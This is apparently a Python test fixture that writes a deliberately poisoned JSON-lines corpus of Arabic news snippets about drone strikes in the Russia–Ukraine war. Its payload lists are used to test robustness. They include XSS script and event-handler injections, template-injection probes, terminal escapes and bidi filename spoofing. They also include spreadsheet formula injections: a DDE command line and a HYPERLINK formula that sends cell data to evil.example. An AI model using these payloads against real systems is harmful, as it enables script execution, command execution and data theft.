"""A poisoned corpus of our own: news that claims something, in which everything that can be written tries to be more than text."""

from __future__ import annotations

import json
from pathlib import Path

MARK = "window.ran"
LIVE = (
    f"<script>{MARK}=1</script>",
    f"<img src=x onerror={MARK}=2>",
    f"<svg onload={MARK}=3><script>{MARK}=4</script><animate onbegin={MARK}=5 attributeName=x></svg>",
    f"<style>body{{background:url(https://evil.example/{MARK})}}</style>",
    f'<a href="javascript:{MARK}=6">x</a><form action=https://evil.example><button>y</button></form>',
    "<iframe srcdoc='<b>x</b>'></iframe><meta http-equiv=refresh content=0><base href=//evil.example/>",
    f"</script><script>{MARK}=7</script><!-- --> ]]> </title></textarea></main>",
    "{{ 7*191 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*191} #{7*191} <%= 7*191 %>",
    "\u202e\u2066txt.exe\u2069\u202c \u200f\u061c",
    "\x1b[2J\x1b]0;owned\x07\x00\x08\x7f\x9b",
    "[link](javascript:alert(1)) ![x](https://evil.example/x.png) $\\frac{1}{2}$ **b** `c` <!--",
    "\\u003cscript\\u003e &lt;script&gt; &#x3c;script&#x3e; %3Cscript%3E ＜script＞",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
NEWS = (
    "قالت وزارة الدفاع الروسية إنها أسقطت 17 مسيّرة أوكرانية فوق بيلغورود ليل الأحد - الاثنين.",
    "وأعلن سلاح الجو الأوكراني أن روسيا أطلقت 50 مسيّرة على كييف ليل الأحد - الاثنين.",
    "قتل 4 أشخاص في قصف روسي على مدينة بولتافا اليوم الاثنين.",
    "وسلمت ألمانيا 14 دبابة لأوكرانيا.",
)


def articles() -> list[dict[str, str]]:
    """Return one article for each thing that tries to live, in its title, its source, its address, its doc_id and its text."""
    found = []
    for number, (live, formula) in enumerate(zip(LIVE, [*FORMULAS, *FORMULAS], strict=False)):
        visible = "".join(character for character in live if character.isprintable())
        found.append(
            {
                "doc_id": f"../{number}-{visible[:60]}",
                "published": "2025-03-10",
                "source": formula,
                "title": f"{formula} {live}",
                "url": (f"javascript:{MARK}=8", "data:text/html,<script>1</script>", f"https://evil.example/{formula}?<x>")[number % 3],
                "text": f"{live} {NEWS[number % 4]}\n\n{formula}\n{live}\n\n{NEWS[(number + 1) % 4][:-1]} {live}.\n",
            }
        )
    long = "قالت الوزارة " * 30_000
    found.append({"doc_id": "long", "published": "2025-03-11", "title": "ع" * 20_000, "source": "م" * 5_000, "text": f"{NEWS[0]} {long}"})
    huge = f"أسقطت الدفاعات {'9' * 400} مسيّرة روسية. قُتل {'٩' * 5_000} جندياً. سقط 1e400 صاروخ. " + NEWS[2]
    found.append({"doc_id": "huge", "published": "2099-12-31", "title": "x", "text": huge})
    found.append({"doc_id": "half", "published": "1800-01-01", "text": f"{NEWS[0]} \ud800"})
    return found


def write(path: Path) -> Path:
    """Write the articles as JSON lines, with escapes where UTF-8 could not hold them."""
    path.write_text("".join(json.dumps(article) + "\n" for article in articles()), encoding="ascii")
    return path
